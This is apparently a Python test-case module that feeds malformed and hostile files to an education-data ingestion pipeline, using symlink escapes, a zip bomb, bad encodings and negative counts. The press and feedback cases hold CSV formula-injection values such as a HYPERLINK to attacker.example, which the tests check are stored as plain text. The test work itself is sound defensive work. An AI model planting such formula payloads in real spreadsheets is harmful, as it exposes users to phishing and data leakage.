def _(inbox: Path, outside: Path) -> None:
    put(inbox, press("press_negative_views.csv"), PRESS_HEADER + press_row("N1", views="-120"))


def _check_unknown_outlet(result) -> None:
    rows = result.tables["press_items"].filter(
        result.tables["press_items"]["source_file"] == press("press_unknown_outlet.csv")
    )
    assert rows["outlet_raw"].to_list() == ["Báo Tầm Nhìn Mới"]  # loaded; mart_unknown_outlets lists it


@case(
    "press_unknown_outlet",
    "press",
    "an outlet not in the reference list (loaded, level 'other', listed in mart_unknown_outlets by dbt)",
    [],
    files=(press("press_unknown_outlet.csv"),),
    loaded=1,
    extra=_check_unknown_outlet,
)
def _(inbox: Path, outside: Path) -> None:
    put(inbox, press("press_unknown_outlet.csv"), PRESS_HEADER + press_row("O1", outlet="Báo Tầm Nhìn Mới"))


def _check_press_formula(result) -> None:
    rows = result.tables["press_items"].filter(
        result.tables["press_items"]["source_file"] == press("press_formula_text.csv")
    )
    assert rows["title"].to_list() == ['=HYPERLINK("http://attacker.example","Xem")', "+84 tin nóng", "@SUM(1+1)"]


@case(
    "press_formula_text",
    "press",
    "titles starting with = + @ (CSV injection): kept as plain text",
    [],
    files=(press("press_formula_text.csv"),),
    loaded=3,
    extra=_check_press_formula,
)
def _(inbox: Path, outside: Path) -> None:
    put(
        inbox,
        press("press_formula_text.csv"),
        PRESS_HEADER
        + '"I1","20/11/2025 08:00","Tuổi Trẻ","Báo điện tử","Tin","=HYPERLINK(""http://attacker.example"",""Xem"")","","https://tuoitre.vn/i1","",""\n'
        + press_row("I2", title="+84 tin nóng")
        + press_row("I3", title="@SUM(1+1)"),
    )


@case(
    "press_missing_columns",
    "press",
    "an export without the url and tieu_de columns",
    [Q(press("press_missing_columns.csv"), ("required columns", "'tieu_de'", "'url'"))],
)
def _(inbox: Path, outside: Path) -> None:
    put(
        inbox,
        press("press_missing_columns.csv"),
        'ma_tin,ngay_dang,co_quan_bao_chi,loai_hinh,the_loai\n"M1","20/11/2025 08:00","Tuổi Trẻ","Báo điện tử","Tin"\n',
    )


@case(
    "press_symlink_outside",
    "press",
    "a link to a CSV outside the inbox",
    [Q(press("press_symlink_outside.csv"), ("symbolic link", "never followed"))],
)
def _(inbox: Path, outside: Path) -> None:
    target = put(outside, "private.csv", PRESS_HEADER + press_row("S1"))
    link(inbox, press("press_symlink_outside.csv"), target)


@case(
    "press_folder_link",
    "press",
    "media/press itself linked to a folder outside the inbox",
    [Q("media/press", ("symbolic link",))],
    mixable=False,
)
def _(inbox: Path, outside: Path) -> None:
    folder = outside / "press_elsewhere"
    put(folder, "elsewhere.csv", PRESS_HEADER + press_row("E1"))
    (inbox / "media").mkdir(parents=True, exist_ok=True)
    os.symlink(folder, inbox / "media" / "press")


# ================================================================ fanpage (Meta export)

FANPAGE_HEADER = "Post ID,Page name,Publish time,Post type,Views,Reach,Reactions,Comments,Shares\n"


def fanpage(name: str) -> str:
    return f"media/fanpage/{name}"


@case("fanpage_zero_bytes", "fanpage", "a zero-byte export", [Q(fanpage("fanpage_zero_bytes.csv"), ("empty",))])
def _(inbox: Path, outside: Path) -> None:
    put(inbox, fanpage("fanpage_zero_bytes.csv"), b"")


@case(
    "fanpage_windows1258",
    "fanpage",
    "an export in Windows-1258",
    [Q(fanpage("fanpage_windows1258.csv"), ("not UTF-8",))],
)
def _(inbox: Path, outside: Path) -> None:
    put(
        inbox,
        fanpage("fanpage_windows1258.csv"),
        FANPAGE_HEADER
        + "1_1,Sở Giáo dục,12/01/2025 10:00,Photos,10,8,1,0,0\n".replace("Sở Giáo dục", "Sở Giáo dục và Đào tạo"),
        "cp1258",
    )


@case(
    "fanpage_negative_reactions",
    "fanpage",
    "reactions -5",
    [Q(fanpage("fanpage_negative_reactions.csv"), ("zero or more", "'-5'"), row=3, column="Reactions", raw="-5")],
    files=(fanpage("fanpage_negative_reactions.csv"),),
    loaded=1,
)
def _(inbox: Path, outside: Path) -> None:
    put(
        inbox,
        fanpage("fanpage_negative_reactions.csv"),
        FANPAGE_HEADER
        + "3_1,Phòng GD Mầm non,10/20/2025 08:00,Photos,100,80,5,1,0\n"
        + "3_2,Phòng GD Mầm non,10/21/2025 08:00,Photos,100,80,-5,1,0\n",
    )


@case(
    "fanpage_future_date",
    "fanpage",
    "a post published in 2031",
    [Q(fanpage("fanpage_future_date.csv"), ("outside",), row=2, column="Publish time", raw="01/05/2031 08:00")],
)
def _(inbox: Path, outside: Path) -> None:
    put(
        inbox,
        fanpage("fanpage_future_date.csv"),
        FANPAGE_HEADER + "4_1,Phòng GD Mầm non,01/05/2031 08:00,Photos,100,80,5,1,0\n",
    )


@case(
    "fanpage_no_header",
    "fanpage",
    "an export whose first line is data, not Meta's header",
    [Q(fanpage("fanpage_no_header.csv"), ("required column",))],
)
def _(inbox: Path, outside: Path) -> None:
    put(inbox, fanpage("fanpage_no_header.csv"), "5_1,Phòng GD Mầm non,10/20/2025 08:00,Photos,100,80,5,1,0\n")


# ================================================================ web (GA4 export)

GA4_PREAMBLE = "# ----------------------------------------\n# Start date: 20250915\n# End date: 20251214\n\n"
GA4_HEADER = (
    "Date,Page path and screen class,Page title,Views,Active users,New users,"
    "Average engagement time per active user,Event count\n"
)


def web(name: str) -> str:
    return f"media/web/{name}"


@case(
    "web_preamble_only",
    "web",
    "a GA4 export cut after its comment lines (no header)",
    [Q(web("web_preamble_only.csv"), ("header",))],
)
def _(inbox: Path, outside: Path) -> None:
    put(inbox, web("web_preamble_only.csv"), GA4_PREAMBLE)


@case(
    "web_negative_views",
    "web",
    "views -10 on one day",
    [Q(web("web_negative_views.csv"), ("zero or more", "'-10'"), row=7, column="Views", raw="-10")],
    files=(web("web_negative_views.csv"),),
    loaded=1,
)
def _(inbox: Path, outside: Path) -> None:
    put(
        inbox,
        web("web_negative_views.csv"),
        GA4_PREAMBLE
        + GA4_HEADER
        + "20251001,/,Trang chủ,100,50,10,12.5,300\n20251002,/,Trang chủ,-10,50,10,12.5,300\n",
    )


@case(
    "web_before_2000",
    "web",
    "a row dated 19991231",
    [Q(web("web_before_2000.csv"), ("outside",), row=6, column="Date", raw="19991231")],
)
def _(inbox: Path, outside: Path) -> None:
    put(inbox, web("web_before_2000.csv"), GA4_PREAMBLE + GA4_HEADER + "19991231,/,Trang chủ,100,50,10,12.5,300\n")


@case("web_utf16", "web", "a GA4 export re-saved as UTF-16", [Q(web("web_utf16.csv"), ("UTF-16",))])
def _(inbox: Path, outside: Path) -> None:
    put(inbox, web("web_utf16.csv"), GA4_PREAMBLE + GA4_HEADER + "20251001,/,Trang chủ,100,50,10,12.5,300\n", "utf-16")


# ================================================================ surveys (Forms export + questionnaire)

SURVEY_HEADER = "Timestamp,Trường an toàn?,Đối tượng,Phường,Họ và tên\n"
QUESTIONNAIRE = (
    "column,role,question_code,task_code,reverse_coded\nTimestamp,timestamp,,,\n"
    "Trường an toàn?,question,Q1,2.10,false\nĐối tượng,group,,,\nPhường,ward,,,\nHọ và tên,personal,,,\n"
)


def survey(name: str) -> str:
    return f"surveys/{name}"


def survey_pair(inbox: Path, stem: str, body: str, questionnaire: str = QUESTIONNAIRE, encoding: str = "utf-8") -> None:
    put(inbox, survey(f"{stem}.csv"), SURVEY_HEADER + body, encoding)
    put(inbox, survey(f"{stem}.questions.csv"), questionnaire)


GOOD_RESPONSE = '"05/01/2026 08:00:00","Đồng ý","Phụ huynh","Phường Bến Thành","Nguyễn Văn Bình"\n'


@case(
    "survey_no_questionnaire",
    "surveys",
    "an export without its questionnaire",
    [Q(survey("survey_no_questionnaire.csv"), ("questionnaire", "missing"))],
)
def _(inbox: Path, outside: Path) -> None:
    put(inbox, survey("survey_no_questionnaire.csv"), SURVEY_HEADER + GOOD_RESPONSE)


@case(
    "survey_orphan_questionnaire",
    "surveys",
    "a questionnaire whose export never arrived",
    [Q(survey("survey_orphan_questionnaire.questions.csv"), ("no export beside it",))],
)
def _(inbox: Path, outside: Path) -> None:
    put(inbox, survey("survey_orphan_questionnaire.questions.csv"), QUESTIONNAIRE)


@case(
    "survey_xlsx_export",
    "surveys",
    "a Forms export downloaded as .xlsx",
    [Q(survey("survey_xlsx_export.xlsx"), ("must be a CSV file",))],
)
def _(inbox: Path, outside: Path) -> None:
    put(inbox, survey("survey_xlsx_export.xlsx"), good_report(outside, "Khảo sát dạng Excel"))


@case(
    "survey_windows1258", "surveys", "an export in Windows-1258", [Q(survey("survey_windows1258.csv"), ("not UTF-8",))]
)
def _(inbox: Path, outside: Path) -> None:
    survey_pair(inbox, "survey_windows1258", GOOD_RESPONSE, encoding="cp1258")


@case(
    "survey_bad_role",
    "surveys",
    "a questionnaire giving a column the role 'answer'",
    [Q(survey("survey_bad_role.csv"), ("questionnaire", "invalid", "'answer'"))],
)
def _(inbox: Path, outside: Path) -> None:
    survey_pair(inbox, "survey_bad_role", GOOD_RESPONSE, QUESTIONNAIRE.replace("Đối tượng,group", "Đối tượng,answer"))


@case(
    "survey_future_timestamp",
    "surveys",
    "a response timestamped 2031",
    [Q(survey("survey_future_timestamp.csv"), ("outside",), row=3, column="Timestamp", raw="05/01/2031 08:00:00")],
    files=(survey("survey_future_timestamp.csv"),),
    loaded=1,
)
def _(inbox: Path, outside: Path) -> None:
    survey_pair(
        inbox,
        "survey_future_timestamp",
        GOOD_RESPONSE + '"05/01/2031 08:00:00","Đồng ý","Phụ huynh","Phường Bến Thành",""\n',
    )


@case(
    "survey_unknown_group",
    "surveys",
    "a respondent group that is not one of the six",
    [
        Q(
            survey("survey_unknown_group.csv"),
            ("group",),
            row=2,
            column="Đối tượng",
            raw="Người ngoài hành tinh",
            action="value_dropped",
        )
    ],
    files=(survey("survey_unknown_group.csv"),),
    loaded=1,
)
def _(inbox: Path, outside: Path) -> None:
    survey_pair(
        inbox, "survey_unknown_group", '"05/01/2026 08:00:00","Đồng ý","Người ngoài hành tinh","Phường Bến Thành",""\n'
    )


@case(
    "survey_symlinked_questionnaire",
    "surveys",
    "the questionnaire is a link to a file outside the inbox",
    [Q(survey("survey_symlinked_questionnaire.csv"), ("questionnaire", "symbolic link"))],
)
def _(inbox: Path, outside: Path) -> None:
    put(inbox, survey("survey_symlinked_questionnaire.csv"), SURVEY_HEADER + GOOD_RESPONSE)
    target = put(outside, "questions_elsewhere.csv", QUESTIONNAIRE)
    link(inbox, survey("survey_symlinked_questionnaire.questions.csv"), target)


# ================================================================ feedback (CSV or workbook)

FEEDBACK_HEADER = "STT,Ngày nhận,Kênh,Chủ đề,Nội dung,Đơn vị xử lý,Ngày trả lời,Trạng thái\n"


def feedback(name: str) -> str:
    return f"feedback/{name}"


@case(
    "feedback_unknown_channel",
    "feedback",
    "channel 'Fax'",
    [Q(feedback("feedback_unknown_channel.csv"), ("unknown channel",), row=3, column="Kênh", raw="Fax")],
    files=(feedback("feedback_unknown_channel.csv"),),
    loaded=1,
)
def _(inbox: Path, outside: Path) -> None:
    put(
        inbox,
        feedback("feedback_unknown_channel.csv"),
        FEEDBACK_HEADER
        + "1,02/10/2025,Email,Học phí,nội dung,Văn phòng,05/10/2025,Đã trả lời\n"
        + "2,03/10/2025,Fax,Học phí,nội dung,Văn phòng,,\n",
    )


@case(
    "feedback_future_date",
    "feedback",
    "a letter received in 2031",
    [
        Q(
            feedback("feedback_future_date.csv"),
            ("outside every reporting window",),
            row=2,
            column="Ngày nhận",
            raw="02/10/2031",
        )
    ],
)
def _(inbox: Path, outside: Path) -> None:
    put(
        inbox,
        feedback("feedback_future_date.csv"),
        FEEDBACK_HEADER + "1,02/10/2031,Email,Học phí,nội dung,Văn phòng,,\n",
    )


@case(
    "feedback_legacy_xls",
    "feedback",
    "an .xls hotline log",
    [Q(feedback("feedback_legacy_xls.xls"), ("Excel 97-2003",))],
)
def _(inbox: Path, outside: Path) -> None:
    put(inbox, feedback("feedback_legacy_xls.xls"), b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504)


@case("feedback_zero_bytes", "feedback", "a zero-byte .xlsx", [Q(feedback("feedback_zero_bytes.xlsx"), ("empty",))])
def _(inbox: Path, outside: Path) -> None:
    put(inbox, feedback("feedback_zero_bytes.xlsx"), b"")


@case(
    "feedback_text_file",
    "feedback",
    "a .txt note dropped in the folder",
    [Q(feedback("feedback_text_file.txt"), ("expected a .csv or .xlsx",))],
)
def _(inbox: Path, outside: Path) -> None:
    put(inbox, feedback("feedback_text_file.txt"), "ghi chú")


def _check_feedback_formula(result) -> None:
    rows = result.tables["feedback_items"]
    rows = rows.filter(rows["source_file"] == feedback("feedback_formula_text.csv"))
    assert rows["topic"].to_list() == ['=HYPERLINK("http://attacker.example","Xem")', "-2+3"]


@case(
    "feedback_formula_text",
    "feedback",
    "topics starting with = and - kept as plain text",
    [],
    files=(feedback("feedback_formula_text.csv"),),
    loaded=2,
    extra=_check_feedback_formula,
)
def _(inbox: Path, outside: Path) -> None:
    put(
        inbox,
        feedback("feedback_formula_text.csv"),
        FEEDBACK_HEADER
        + '1,02/10/2025,Email,"=HYPERLINK(""http://attacker.example"",""Xem"")",nội dung,Văn phòng,,\n'
        + "2,02/10/2025,Email,-2+3,nội dung,Văn phòng,,\n",
    )


@case(
    "feedback_100k_space_rows",
    "feedback",
    "a hotline workbook with 2 items then 100,000 rows of a space",
    [],
    files=(feedback("feedback_100k_space_rows.xlsx"),),
    loaded=2,
)
def _(inbox: Path, outside: Path) -> None:
    head = (
        f'<row r="1">{cell("A1", "Ngày nhận")}{cell("B1", "Kênh")}{cell("C1", "Chủ đề")}</row>'
        f'<row r="2">{cell("A2", "02/10/2025")}{cell("B2", "Email")}{cell("C2", "Học phí")}</row>'
        f'<row r="3">{cell("A3", "03/10/2025")}{cell("B3", "Thư")}{cell("C3", "Tuyển sinh")}</row>'
    )
    put(
        inbox,
        feedback("feedback_100k_space_rows.xlsx"),
        raw_xlsx({"Nhật ký": head + _formatted_rows(4, 100_000, False)}),
    )


@case(
    "feedback_symlink_outside",
    "feedback",
    "a link to a CSV outside the inbox",
    [Q(feedback("feedback_symlink_outside.csv"), ("symbolic link", "outside the inbox"))],
)
def _(inbox: Path, outside: Path) -> None:
    target = put(outside, "hotline_private.csv", FEEDBACK_HEADER + "1,02/10/2025,Email,Học phí,nội dung,Văn phòng,,\n")
    link(inbox, feedback("feedback_symlink_outside.csv"), target)


# ================================================================ infrastructure

WARD_HEADER = "Năm,Phường/Xã,Cấp học,Dân số 6-10 tuổi,Số trường,Số trường đạt chuẩn quốc gia,Số phòng học\n"


def infra(name: str) -> str:
    return f"infrastructure/{name}"


@case(
    "infra_negative_classrooms",
    "infrastructure",
    "classrooms -20",
    [Q(infra("ward_statistics_negative_2025.csv"), ("zero or more",), row=3, column="Số phòng học", raw="-20")],
    files=(infra("ward_statistics_negative_2025.csv"),),
    loaded=1,
)
def _(inbox: Path, outside: Path) -> None:
    put(
        inbox,
        infra("ward_statistics_negative_2025.csv"),
        WARD_HEADER + "2025,Phường Bến Thành,Tiểu học,2.340,3,1,72\n2025,Phường Sài Gòn,Tiểu học,1.100,2,1,-20\n",
    )


@case(
    "infra_unknown_ward",
    "infrastructure",
    "a ward that does not exist",
    [
        Q(
            infra("ward_statistics_unknown_2025.csv"),
            ("Phường Không Có",),
            row=2,
            column="Phường/Xã",
            raw="Phường Không Có",
        )
    ],
)
def _(inbox: Path, outside: Path) -> None:
    put(inbox, infra("ward_statistics_unknown_2025.csv"), WARD_HEADER + "2025,Phường Không Có,Tiểu học,2.340,3,1,72\n")


@case(
    "infra_sparse_grid",
    "infrastructure",
    "a projects workbook with a stray value in XFD1048576",
    [Q(infra("classroom_projects_sparse.xlsx"), ("XFD1048576",))],
)
def _(inbox: Path, outside: Path) -> None:
    put(
        inbox,
        infra("classroom_projects_sparse.xlsx"),
        raw_xlsx(
            {
                "DanhMuc": f'<row r="1">{cell("A1", "Mã dự án")}{cell("B1", "Số phòng học theo kế hoạch")}</row>'
                f'<row r="1048576">{cell("XFD1048576", "x")}</row>'
            }
        ),
    )


@case(
    "infra_no_header",
    "infrastructure",
    "a CSV that is none of the three kinds",
    [Q(infra("ward_statistics_notes_2025.csv"), ("no sheet has the header",))],
)
def _(inbox: Path, outside: Path) -> None:
    put(inbox, infra("ward_statistics_notes_2025.csv"), "Ghi chú,Nội dung\nchưa có số liệu,\n")


@case(
    "infra_utf16",
    "infrastructure",
    "ward statistics saved as UTF-16",
    [Q(infra("ward_statistics_utf16_2025.csv"), ("UTF-16",))],
)
def _(inbox: Path, outside: Path) -> None:
    put(
        inbox,
        infra("ward_statistics_utf16_2025.csv"),
        WARD_HEADER + "2025,Phường Bến Thành,Tiểu học,2.340,3,1,72\n",
        "utf-16",
    )


@case(
    "infra_year_before_2000",
    "infrastructure",
    "a statistic for the year 1999",
    [Q(infra("ward_statistics_1999_old.csv"), ("expected a year from 2000",), row=2, column="Năm", raw="1999")],
)
def _(inbox: Path, outside: Path) -> None:
    put(inbox, infra("ward_statistics_1999_old.csv"), WARD_HEADER + "1999,Phường Bến Thành,Tiểu học,2.340,3,1,72\n")


@case(
    "infra_zip_bomb",
    "infrastructure",
    "a zip bomb named ward_statistics_2025.xlsx",
    [Q(infra("ward_statistics_bomb_2025.xlsx"), ("zip bomb",))],
)
def _(inbox: Path, outside: Path) -> None:
    put(inbox, infra("ward_statistics_bomb_2025.xlsx"), _zip_bomb())


# ---------------------------------------------------------------- cases kept in modules of their own
# Further cases live beside this file in `cases_<topic>.py` modules, which import `case`, `Q` and
# the writing helpers from here; importing them registers their cases in CASES.
def _load_case_modules() -> None:
    import importlib
    import pkgutil

    package = Path(__file__).parent
    for module in sorted(m.name for m in pkgutil.iter_modules([str(package)]) if m.name.startswith("cases_")):
        importlib.import_module(f"tests.badinput.{module}")


_load_case_modules()
